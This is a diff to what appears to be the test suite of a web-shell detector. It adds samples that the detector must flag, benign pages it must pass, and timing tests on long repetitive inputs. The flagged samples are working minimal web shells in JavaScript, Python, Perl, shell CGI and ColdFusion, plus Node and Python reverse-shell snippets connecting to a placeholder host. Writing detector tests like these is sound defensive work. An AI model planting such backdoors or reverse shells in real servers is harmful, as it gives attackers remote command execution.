@@ -202,6 +202,25 @@ def test_ordinary_scripts_are_no_web_shells(plain: TreeMaker) -> None:
         ("a.ashx", '<%@ WebHandler Language="C#" %> System.Reflection.Assembly.Load(Convert.FromBase64String(context.Request["x"]));'),
         ("cgi-bin/a.py", "import cgi, os\nprint(os.popen(cgi.FieldStorage().getvalue('c')).read())\n"),
         ("a.js", "const e = require('child_process'); require('http').createServer((req, res) => e.exec(req.url.slice(1)))"),
+        (
+            "a.mjs",
+            "import cp from 'node:child_process';\napp.get('/', (req, res) => { const { c } = req.query; cp.exec(c, (e, o) => res.send(o)); });",
+        ),
+        ("a.js", "app.post('/x', (req, res) => { const code = req.body.c; res.send(String(eval(code))); }); module.exports = app;"),
+        (
+            "a.js",
+            "var net = require('net'), sh = require('child_process').spawn('/bin/sh', []); var c = new net.Socket(); c.connect(1, 'h');",
+        ),
+        (
+            "a.py",
+            "from flask import request\nimport subprocess\ndef x():\n    c = request.args.get('c')\n    return subprocess.check_output(c, shell=True)\n",
+        ),
+        ("a.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
+        ("a.py", "import socket, os, pty\ns = socket.socket()\ns.connect(('h', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('sh')\n"),
+        ("cgi-bin/a.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nprint `$c`;\n"),
+        ("cgi-bin/a.cgi", "#!/bin/sh\neval $QUERY_STRING\n"),
+        ("cgi-bin/a.cgi", "#!/usr/bin/python3\nimport os\nprint(os.popen(os.environ['QUERY_STRING']).read())\n"),
+        ("a.cfm", '<cfexecute name="cmd.exe" arguments="/c #form.cmd#" timeout="5"></cfexecute>'),
     ],
 )
 def test_web_shells_of_each_language(plain: TreeMaker, name: str, content: str) -> None:
@@ -223,6 +242,16 @@ def test_web_shells_of_each_language(plain: TreeMaker, name: str, content: str) 
         ("a.asp", '<% Response.Write Server.HTMLEncode(Request("name")) %>'),
         ("app.js", "app.get('/', function (req, res) { res.send(req.query.name); });"),
         ("node_modules/x/a.js", "require('child_process').exec(req.query.c)"),
+        (
+            "app.py",
+            "from flask import request\nimport subprocess\ndef version():\n    name = request.args.get('n')\n    return subprocess.run(['git', 'log'], check=True).stdout + name\n",
+        ),
+        (
+            "server.js",
+            "const { execSync } = require('child_process'); const v = execSync('git rev-parse HEAD'); const m = /^a/.exec(req.url); app.get('/', (req, res) => res.send(v));",
+        ),
+        ("cgi-bin/env.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint $q->header, $q->param('name');\n"),
+        ("index.cfm", '<cfquery name="q" datasource="shop">select 1</cfquery><form action="a.cfm"></form>'),
     ],
 )
 def test_honest_pages_are_no_web_shells(plain: TreeMaker, name: str, content: str) -> None:
@@ -231,12 +260,39 @@ def test_honest_pages_are_no_web_shells(plain: TreeMaker, name: str, content: st
 
 
 @pytest.mark.parametrize(
-    "unit", ["$a=", "`", "chr(1).", "'a'^", "eval(", "$_POST[", "<?php ", "/*", "\\\\x41", "$a[0].", '"\\\\', "(", "$O0O0="]
+    "unit",
+    [
+        "$a=",
+        "`",
+        "chr(1).",
+        "'a'^",
+        "eval(",
+        "$_POST[",
+        "<?php ",
+        "/*",
+        "\\\\x41",
+        "$a[0].",
+        '"\\\\',
+        "(",
+        "$O0O0=",
+        "os.system(",
+        "a=b\\n",
+        "exec(",
+        "<cffile ",
+        "socket.socket(",
+    ],
 )
 def test_no_script_takes_long(unit: str) -> None:
     began = time.process_time()
     judge("/var/www/a.php", "<?php $_GET;" + unit * (60_000 // len(unit)))
     judge("/var/www/a.jsp", "<% request;" + unit * (60_000 // len(unit)))
+    for name, start in (
+        ("a.py", "subprocess request.args os.popen("),
+        ("a.js", "child_process req.query exec("),
+        ("a.pl", "param( Socket"),
+        ("a.cfm", "form. <cffile "),
+    ):
+        judge(f"/var/www/html/{name}", start + unit * (60_000 // len(unit)))
     assert time.process_time() - began < 10
 
 
